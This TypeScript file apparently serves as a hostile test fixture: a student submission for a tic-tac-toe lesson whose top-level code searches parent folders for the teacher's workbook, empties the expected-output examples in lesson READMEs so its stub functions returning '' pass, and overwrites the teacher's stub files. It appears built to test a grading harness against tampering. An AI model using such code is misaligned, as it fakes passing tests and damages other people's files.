// Attack: writes to the teacher's lessons/. The suites take expected outputs from the examples in
// lessons/NN-slug/README.md: they are emptied, so this file's functions, which return '', match them.
// The teacher's stubs (lessons/*/*.ts) are overwritten too, so the next student edition is broken.
import { existsSync, lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Test harness guard (not part of the attack): touch nothing outside the test's own temp folder. */
const mine = (path: string): boolean => resolve(path).startsWith('{{SANDBOX}}/');
/** What this hand-in writes, spelled at run time so that its own source does not contain it. */
const MARK = ['hostile', '{{NAME}}'].join(':');

/** Folders that may be the teacher's workbook: the working directory, a guess, every folder above this file. */
function workbooks(): string[] {
  const found = [process.cwd(), '{{WORKBOOK}}'];
  for (let dir = dirname(fileURLToPath(import.meta.url)); dir !== dirname(dir); dir = dirname(dir)) found.push(dir);
  return [...new Set(found)].filter((dir) => existsSync(join(dir, 'package.json')));
}
/** Overwrites a file that exists (never creates one), if it is ours to touch. */
function overwrite(path: string, change: (text: string) => string): void {
  try {
    if (mine(path) && lstatSync(path).isFile()) writeFileSync(path, change(readFileSync(path, 'utf8')));
  } catch {
    // not allowed, or not there: try the next one
  }
}

for (const root of workbooks()) {
  const lessons = join(root, 'lessons');
  if (!existsSync(lessons)) continue;
  for (const lesson of readdirSync(lessons)) {
    overwrite(
      join(lessons, lesson, 'README.md'),
      (text) => `${text.replace(/^(\`\`\`[\w-]*[ \t]+example=[\w-]+(?:[ \t]+words=[\w-]+)?[ \t]*\n)[\s\S]*?^(\`\`\`[ \t]*$)/gm, '$1$2')}\n<!-- ${MARK} -->\n`,
    );
    for (const file of readdirSync(join(lessons, lesson)).filter((name) => name.endsWith('.ts'))) {
      overwrite(join(lessons, lesson, file), (text) => `// ${MARK}\n${text}`);
    }
  }
}

export type Mark = 'X' | 'O';
export const EMPTY = ' ';
export type Cell = Mark | typeof EMPTY;
export type Board = Cell[];
export type GridCell = Mark | '.';
export type Grid = GridCell[][];

// Wrong answers of the right type: they match the emptied examples.
export function createBoard(): Board {
  return [];
}
export function renderBoard(board: Board): string {
  return '';
}
export function renderFramed(board: Board): string {
  return '';
}
export function createGrid(): Grid {
  return [];
}
export function renderGrid(grid: Grid): string {
  return '';
}
